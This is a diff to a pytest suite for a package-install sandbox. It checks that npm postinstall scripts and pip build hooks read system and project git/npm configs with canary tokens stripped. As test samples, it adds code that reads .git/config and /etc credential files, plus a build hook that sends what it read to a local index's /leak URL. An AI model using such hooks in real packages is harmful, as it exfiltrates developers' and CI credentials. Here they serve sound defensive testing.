@@ -1,9 +1,10 @@
-"""The host's system-wide npm, pip and git configs, and its TLS private keys, as package code sees
-them: a machine set up for a private registry keeps the token in /etc/npmrc, the index password in
+"""The host's system-wide npm, pip and git configs, its TLS private keys and the project's git
+config, as package code sees them: a machine set up for a private registry keeps the token in /etc/npmrc, the index password in
 /etc/pip.conf's URL, a git token in /etc/gitconfig. Package code (a plain `sbox run`, npm's
 scripts phase) reads those files without the credentials and with every other setting; npm's
 download phase, which talks to the registry itself, gets the token and uses it. /etc/ssl/private
-is not in any sandbox.
+is not in any sandbox. The project's .git/config, where `actions/checkout` leaves the CI job's
+token, is read without it too.
 
 The canaries are planted in a private mount namespace (a copy of /etc bound over /etc for the
 test's processes alone), so the machine's own files are never touched; as root, since only root
@@ -17,17 +18,19 @@ import os
 import secrets
 import shutil
 import subprocess
+import urllib.parse
 from pathlib import Path
+from typing import Any
 
 import pytest
 from support import packages as pkg
 from support.boundary import config
 from support.registries import NpmRegistry
 
-pytestmark = [
-    pytest.mark.skipif(os.geteuid() != 0, reason="a private mount namespace over /etc needs root"),
-    pytest.mark.skipif(shutil.which("unshare") is None, reason="unshare (util-linux) is not installed"),
-]
+def namespaces(test: Any) -> Any:
+    """The test plants its canaries in a private mount namespace: root only, with unshare."""
+    test = pytest.mark.skipif(os.geteuid() != 0, reason="a private mount namespace over /etc needs root")(test)
+    return pytest.mark.skipif(shutil.which("unshare") is None, reason="unshare (util-linux) is not installed")(test)
 
 TOKEN = "SBOXETCSECRET" + secrets.token_hex(8)
 
@@ -75,6 +78,7 @@ def _in_namespace(etc: Path, local: Path | None, argv: list[str], cwd: Path,
     return result
 
 
+@namespaces
 def test_package_code_reads_system_configs_without_their_credentials(tmp_path: Path, backend: str,
                                                                      sbox_bin: str) -> None:
     root = tmp_path / "proj"
@@ -99,6 +103,7 @@ def test_package_code_reads_system_configs_without_their_credentials(tmp_path: P
         assert setting in result.stdout, f"{setting!r} lost:\n{out}"
 
 
+@namespaces
 @pytest.mark.skipif(shutil.which("npm") is None, reason="npm is not installed")
 def test_npm_scripts_read_the_global_npmrc_without_the_token_the_download_used(tmp_path: Path, backend: str,
                                                                                  sbox_bin: str) -> None:
@@ -131,3 +136,99 @@ def test_npm_scripts_read_the_global_npmrc_without_the_token_the_download_used(t
     assert "foreground-scripts=false" in seen["/etc/npmrc"], seen
     assert TOKEN not in json.dumps(seen), seen  # ... without the token the download used
     assert TOKEN not in out
+
+
+def _checkout(root: Path) -> None:
+    """A project as `actions/checkout` leaves it in CI: the job's token in .git/config, a clone
+    URL with a token in a submodule's (`modules/libs/core`: a name with a slash)."""
+    subprocess.run(["git", "init", "-q", str(root)], check=True)
+    git = ["git", "-C", str(root), "config"]
+    subprocess.run([*git, "http.https://github.com/.extraheader", f"AUTHORIZATION: basic {TOKEN}"], check=True)
+    subprocess.run([*git, "remote.origin.url", "https://github.com/example/app"], check=True)
+    module = root / ".git" / "modules" / "libs" / "core"
+    module.mkdir(parents=True)
+    (module / "HEAD").write_text("ref: refs/heads/main\n")
+    (module / "config").write_text(f'[remote "origin"]\n\turl = https://x-access-token:{TOKEN}@github.com/example/core\n')
+
+
+def test_package_code_reads_the_project_s_git_config_without_the_ci_token(tmp_path: Path, backend: str,
+                                                                          sbox_bin: str) -> None:
+    """An install script reads .git/config (the CI job's token) in a network-off run and in npm's
+    scripts phase; git itself still works there (the remote's URL is what it was)."""
+    root = tmp_path / "proj"
+    config(root, backend)
+    _checkout(root)
+    reader = "cat .git/config .git/modules/libs/core/config; git config --get remote.origin.url"
+    control = subprocess.run(["sh", "-c", reader], cwd=root, capture_output=True, text=True)
+    assert control.stdout.count(TOKEN) == 2, control  # the live control: there to steal
+
+    result = subprocess.run([sbox_bin, "run", "--", "sh", "-c", reader], cwd=root, capture_output=True, text=True,
+                            timeout=300)
+    out = result.stdout + result.stderr
+    assert result.returncode == 0, out
+    assert TOKEN not in out, out
+    assert "https://github.com/example/app" in result.stdout  # git reads the config
+    assert "url = https://github.com/example/core" in result.stdout, out
+
+    if shutil.which("npm") is None:
+        return
+    dump = ("const fs = require('fs'); const out = {};\n"
+            "for (const f of ['.git/config', '.git/modules/libs/core/config']) {\n"
+            "  try { out[f] = fs.readFileSync(process.env.INIT_CWD + '/' + f, 'utf8') } catch (e) { out[f] = String(e) } }\n"
+            "fs.writeFileSync(process.env.INIT_CWD + '/node_modules/dump.json', JSON.stringify(out));\n")
+    tgz = pkg.npm_package("sbox-git-dump", "1.0.0", {"dump.js": dump}, scripts={"postinstall": "node dump.js"})
+    with NpmRegistry([tgz]) as registry:
+        (root / "package.json").write_text(json.dumps({"name": "app", "version": "0.0.0", "private": True,
+                                                       "dependencies": {"sbox-git-dump": "1.0.0"}}))
+        env = {k: v for k, v in os.environ.items() if not k.lower().startswith("npm_config_")}
+        env.update(npm_config_registry=registry.local_url + "/", npm_config_audit="false",
+                   npm_config_update_notifier="false")
+        result = subprocess.run([sbox_bin, "run", "--", "npm", "install"], cwd=root, env=env, capture_output=True,
+                                text=True, timeout=300)
+        assert result.returncode == 0, (result.stdout + result.stderr)[-3000:]
+    seen = json.loads((root / "node_modules" / "dump.json").read_text())
+    assert "[remote \"origin\"]" in seen[".git/config"] and "extraheader" not in seen[".git/config"], seen
+    assert TOKEN not in json.dumps(seen), seen
+
+
+LEAK_SETUP = r"""
+import json, os, urllib.parse, urllib.request
+seen = {}
+for f in ("/etc/gitconfig", "/etc/npmrc"):
+    try:
+        seen[f] = open(f).read()
+    except OSError as e:
+        seen[f] = str(e)
+try:  # the download phase has the index: the sdist's build hook sends what it read there
+    urllib.request.urlopen(INDEX + "/leak?d=" + urllib.parse.quote(json.dumps(seen)), timeout=10).read()
+except Exception:
+    pass
+"""
+
+
+@namespaces
+def test_pip_s_download_phase_runs_build_hooks_without_the_machine_s_git_and_npm_credentials(
+        tmp_path: Path, backend: str, sbox_bin: str) -> None:
+    """pip's download phase runs an sdist's build hooks, with the network to the index: it gets
+    the index's credentials (pip.conf), never git's or npm's, which it has no use for (red team)."""
+    from support.registries import PypiIndex
+
+    root = tmp_path / "proj"
+    config(root, backend)
+    venv = root / ".venv"
+    subprocess.run([shutil.which("python3") or "python3", "-m", "venv", str(venv)], check=True, timeout=300)
+    with PypiIndex() as index:
+        name, data = pkg.sdist("sbox-leak", "1.0", f"INDEX = {index.local_url!r}\n" + LEAK_SETUP, {"sbox_leak.py": ""},
+                               backend="intree")
+        index.add(name, data)
+        etc, _ = _plant(tmp_path, xdg=False)
+        env = {k: v for k, v in os.environ.items() if not k.startswith(("PIP_", "npm_config_"))}
+        env.update(PIP_INDEX_URL=index.index_url, PIP_CONFIG_FILE=os.devnull, PIP_RETRIES="0", VIRTUAL_ENV=str(venv),
+                   PATH=f"{venv / 'bin'}{os.pathsep}{os.environ['PATH']}")
+        result = _in_namespace(etc, None, [sbox_bin, "run", "--", "pip", "install", "sbox-leak"], root, env)
+        out = result.stdout + result.stderr
+        assert result.returncode == 0, out[-3000:]
+        leaks = [r for r in index.requests if r.startswith("/leak")]
+    assert leaks, index.requests  # the hook ran with the network, and read the files ...
+    assert "sslVerify" in urllib.parse.unquote(leaks[0]), leaks
+    assert all(TOKEN not in urllib.parse.unquote(r) for r in index.requests), leaks  # ... without the tokens
